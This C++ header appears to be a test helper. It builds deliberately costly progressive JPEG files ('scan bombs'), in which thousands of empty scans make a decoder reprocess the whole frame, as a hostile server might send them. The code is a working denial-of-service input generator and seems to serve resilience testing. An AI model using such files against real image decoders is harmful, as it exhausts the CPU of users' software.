#pragma once

#include <QByteArray>

// Progressive JPEG pictures whose decoding costs far more than their bytes
// suggest, as a hostile server would send them.
namespace ScanBomb {

// A valid grey progressive JPEG of `width` x `height` pixels: its tables,
// one DC scan whose blocks are all mid-grey, then `emptyScans` AC scans
// that name the component and carry no data. Each empty scan is a 10-byte
// header, yet a decoder goes over every block of the frame for it (libjpeg
// warns once of the missing data and goes on). 4000 x 4000 pixels with
// 1,000 empty scans make 41,390 bytes; with 200,000 about 2 MB.
inline QByteArray progressiveJpeg(int width, int height, int emptyScans)
{
    QByteArray bytes;
    const auto word = [&bytes](int value) {
        bytes.append(char(value >> 8));
        bytes.append(char(value & 0xFF));
    };
    bytes.append("\xFF\xD8", 2);
    // One quantisation table of ones.
    bytes.append("\xFF\xDB", 2);
    word(67);
    bytes.append('\0');
    bytes.append(QByteArray(64, '\x01'));
    // Progressive frame, 8-bit, one component sampled 1:1 on table 0.
    bytes.append("\xFF\xC2", 2);
    word(11);
    bytes.append('\x08');
    word(height);
    word(width);
    bytes.append("\x01\x01\x11\x00", 4);
    // A DC and an AC Huffman table, each of one one-bit code for symbol 0:
    // "no difference" and "end of block".
    for (const char tableClass : {'\x00', '\x10'}) {
        bytes.append("\xFF\xC4", 2);
        word(2 + 1 + 16 + 1);
        bytes.append(tableClass);
        bytes.append('\x01');
        bytes.append(QByteArray(15, '\0'));
        bytes.append('\0');
    }
    // The DC scan: one zero bit per block.
    bytes.append("\xFF\xDA\x00\x08\x01\x01\x00\x00\x00\x00", 10);
    const qint64 blocks = qint64((width + 7) / 8) * ((height + 7) / 8);
    bytes.append(QByteArray((blocks + 7) / 8, '\0'));
    // AC scans over coefficients 1 to 63, without data.
    const QByteArray emptyScan("\xFF\xDA\x00\x08\x01\x01\x00\x01\x3F\x00", 10);
    bytes.append(emptyScan.repeated(emptyScans));
    bytes.append("\xFF\xD9", 2);
    return bytes;
}

} // namespace ScanBomb
